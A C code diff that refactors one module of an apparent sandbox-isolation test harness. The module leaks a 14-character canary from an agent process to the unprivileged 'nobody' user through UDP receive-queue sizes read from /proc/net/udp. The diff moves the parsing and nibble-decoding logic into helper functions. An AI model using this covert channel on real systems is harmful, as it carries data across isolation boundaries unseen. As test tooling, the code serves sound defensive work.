@@ -34,6 +34,7 @@
 #include <sys/socket.h>
 
 #include "atk.h"
+#include "atk_variants.h"
 
 #define RQ_SOCKS 28 /* one per nibble of the 14-character canary */
 #define RQ_N 16
@@ -93,44 +94,9 @@ static int agent(struct atk_ctx *c)
 }
 
 /* UDP sockets in /proc/net/udp: (inode, uid, local address, local port, rx_queue) */
-struct rq_sock {
-    unsigned long ino;
-    unsigned uid, addr, port, rx;
-};
-static int list_udp(struct rq_sock *out, int cap)
-{
-    FILE *f = fopen("/proc/net/udp", "re");
-    if (!f)
-        return -1;
-    char line[512];
-    int n = 0;
-    if (!fgets(line, sizeof(line), f)) { /* the header */
-        fclose(f);
-        return -1;
-    }
-    while (n < cap && fgets(line, sizeof(line), f)) {
-        unsigned addr, port, tx, rx, uid;
-        unsigned long ino;
-        if (sscanf(line, " %*d: %x:%x %*x:%*x %*x %x:%x %*x:%*x %*x %u %*d %lu", &addr, &port, &tx, &rx, &uid, &ino) ==
-            6)
-            out[n++] = (struct rq_sock){ino, uid, addr, port, rx};
-    }
-    fclose(f);
-    return n;
-}
-
-static struct rq_sock before[4096];
-static int nbefore;
+static struct atkv_udp_snap before;
 static unsigned ports[RQ_SOCKS];
 static int nports;
-
-static int was_there(unsigned long ino)
-{
-    for (int i = 0; i < nbefore; i++)
-        if (before[i].ino == ino)
-            return 1;
-    return 0;
-}
 
 /* one datagram from 127.0.0.1:port (IP_PKTINFO source) on a socket bound to 127.0.0.2:port */
 static unsigned closed_port;
@@ -177,13 +143,13 @@ static unsigned free_port(void)
  * agent's own address and port; the ports in order of j go to out ("p,p,...;err") */
 static int nobody_sends(struct atk_ctx *c, char *out, size_t n)
 {
-    static struct rq_sock now[4096];
-    int k = list_udp(now, 4096), np = 0, err = 0;
+    static struct atkv_udp_sock now[4096];
+    int k = atkv_udp_list("/proc/net/udp", now, 4096), np = 0, err = 0;
     size_t o = 0;
     out[0] = 0;
     closed_port = free_port();
     for (int i = 0; i < k && np < RQ_SOCKS; i++) {
-        if (now[i].uid != (unsigned)c->agent_uid || was_there(now[i].ino) ||
+        if (now[i].uid != (unsigned)c->agent_uid || atkv_udp_snap_has(&before, now[i].ino) ||
             (now[i].addr != 0 && now[i].addr != htonl(INADDR_LOOPBACK)))
             continue;
         int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
@@ -231,20 +197,8 @@ static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t cap)
         sendto(r, "j", 1, 0, (struct sockaddr *)&to, sizeof(to)) != 1)
         return 0;
     usleep(20000);
-    static struct rq_sock now[4096];
-    int n = list_udp(now, 4096);
-    unsigned unit = 0;
-    for (int i = 0; i < n; i++)
-        if (now[i].port == ntohs(a.sin_port))
-            unit = now[i].rx;
-    if (!unit)
+    if (atkv_udp_nibbles("/proc/net/udp", ntohs(a.sin_port), ports, nports, RQ_N, msg, sizeof(msg)) != 0)
         return 0;
-    for (int j = 0; j < nports && (size_t)j / 2 + 1 < sizeof(msg); j++)
-        for (int i = 0; i < n; i++)
-            if (now[i].port == ports[j] && now[i].rx % unit == 0 && now[i].rx / unit <= RQ_N) {
-                unsigned nib = RQ_N - now[i].rx / unit;
-                msg[j / 2] = (char)(j % 2 ? (msg[j / 2] | (char)nib) : (char)(nib << 4));
-            }
     snprintf(out, cap, "%s", msg);
     return 0;
 }
@@ -252,7 +206,7 @@ static int nobody_reads_queues(struct atk_ctx *c, char *out, size_t cap)
 static void on_sync(struct atk_ctx *c, const char *tag)
 {
     if (strcmp(tag, "pre") == 0) {
-        nbefore = list_udp(before, 4096);
+        atkv_udp_snap_take("/proc/net/udp", &before);
         nports = 0;
         return;
     }
@@ -260,12 +214,7 @@ static void on_sync(struct atk_ctx *c, const char *tag)
         char out[1024];
         if (atk_as_uid(c, ATK_NOBODY, nobody_sends, out, sizeof(out)) < 0)
             return;
-        char *p = out;
-        while (nports < RQ_SOCKS && *p && *p != ';') {
-            ports[nports++] = (unsigned)strtoul(p, &p, 10);
-            if (*p == ',')
-                p++;
-        }
+        nports = atkv_udp_ports(out, ports, RQ_SOCKS);
         fprintf(stderr, "udp_errqueue_self_source: uid 65534 provoked errors for %d sockets (%s)\n", nports, out);
         return;
     }
